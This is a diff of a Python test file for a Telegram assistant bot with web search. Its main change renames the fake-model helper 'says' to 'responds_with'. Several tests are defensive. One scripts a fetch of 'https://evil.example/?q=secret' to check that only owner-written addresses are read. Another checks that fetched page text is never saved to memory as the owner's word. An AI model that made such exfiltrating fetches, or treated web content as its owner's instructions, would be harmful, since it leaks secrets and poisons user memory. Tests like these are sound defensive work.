@@ -42,7 +42,7 @@ def note(folder: Path, name: str) -> str:
 async def test_an_answer_from_the_web_names_its_hosts_and_is_billed(
     telegram: FakeTelegram, claude: FakeClaude, tmp_path: Path
 ) -> None:
-    claude.says(RAIN, when="weather")
+    claude.responds_with(RAIN, when="weather")
     async with sam(telegram, claude, tmp_path, web_search=True, web_search_max_uses=2) as it:
         said = await telegram.asks("What is the weather in Berlin?")
         assert "I look it up.\n\nRain until 17:00, then snow. [1]" in said.text
@@ -76,8 +76,10 @@ async def test_without_the_setting_no_request_offers_the_web(
 async def test_only_an_address_that_the_owner_writes_is_read(
     telegram: FakeTelegram, claude: FakeClaude, tmp_path: Path
 ) -> None:
-    claude.says([WebFetch(URL, "Berlin", "It snows."), "It snows there."], when="stands on")
-    claude.says([WebFetch("https://evil.example/?q=secret"), "I could not."], when="other")
+    claude.responds_with(
+        [WebFetch(URL, "Berlin", "It snows."), "It snows there."], when="stands on"
+    )
+    claude.responds_with([WebFetch("https://evil.example/?q=secret"), "I could not."], when="other")
     async with sam(telegram, claude, tmp_path, web_search=True):
         said = await telegram.asks(f"What stands on {URL}?")
         assert "It snows there." in said.text
@@ -99,7 +101,7 @@ async def test_what_the_web_says_is_never_the_owners_word(
     root.mkdir()
     (root / "soul.md").write_text("# Soul\n\nBe kind.\n")
     (root / "MEMORY.md").write_text("# Memory\n\n- Likes tea\n")
-    claude.says(
+    claude.responds_with(
         [
             WebFetch(URL, "Berlin", PAGE),
             ToolUse("save_memory", {"content": PAGE, "source": "owner"}),
@@ -109,8 +111,8 @@ async def test_what_the_web_says_is_never_the_owners_word(
         when="stands on",
         times=1,
     )
-    claude.says(f"It says: {PAGE}.", when="stands on")
-    claude.says(
+    claude.responds_with(f"It says: {PAGE}.", when="stands on")
+    claude.responds_with(
         [ToolUse("save_memory", {"content": PAGE, "source": "owner"})], when="thanks", times=1
     )
     async with sam(telegram, claude, tmp_path, web_search=True) as it:
@@ -134,9 +136,9 @@ async def test_what_the_web_says_is_never_the_owners_word(
 async def test_a_paused_turn_goes_on(
     telegram: FakeTelegram, claude: FakeClaude, tmp_path: Path
 ) -> None:
-    claude.says(["First.", WebSearch("one", FOUND), Pause()], when="long", times=1)
-    claude.says([WebSearch("two", FOUND), Pause()], when="long", times=1)
-    claude.says([WebText("Then snow.", (URL,))], when="long")
+    claude.responds_with(["First.", WebSearch("one", FOUND), Pause()], when="long", times=1)
+    claude.responds_with([WebSearch("two", FOUND), Pause()], when="long", times=1)
+    claude.responds_with([WebText("Then snow.", (URL,))], when="long")
     async with sam(telegram, claude, tmp_path, web_search=True) as it:
         said = await telegram.asks("a long search")
         assert "First.\n\nThen snow. [1]" in said.text
@@ -150,7 +152,7 @@ async def test_a_search_that_fails_or_goes_too_far_is_not_billed(
     telegram: FakeTelegram, claude: FakeClaude, tmp_path: Path
 ) -> None:
     failed, third = WebSearch("one", error="unavailable"), WebSearch("three", FOUND)
-    claude.says([failed, third, "I found nothing."])
+    claude.responds_with([failed, third, "I found nothing."])
     async with sam(telegram, claude, tmp_path, web_search=True, web_search_max_uses=1) as it:
         assert (await telegram.asks("Search, please")).text == "I found nothing."
         await it.at_rest()
@@ -163,7 +165,7 @@ async def test_a_server_without_the_web_answers_all_the_same(
 ) -> None:
     claude.is_local("qwen3")
     claude.rejects("web_search_20250305")
-    claude.says("From memory alone.")
+    claude.responds_with("From memory alone.")
     given: dict[str, Any] = {"chat_model": "qwen3", "summary_model": "qwen3", "web_search": True}
     async with sam(telegram, claude, tmp_path, **given):
         assert "From memory alone." in (await telegram.asks("What is new?")).text
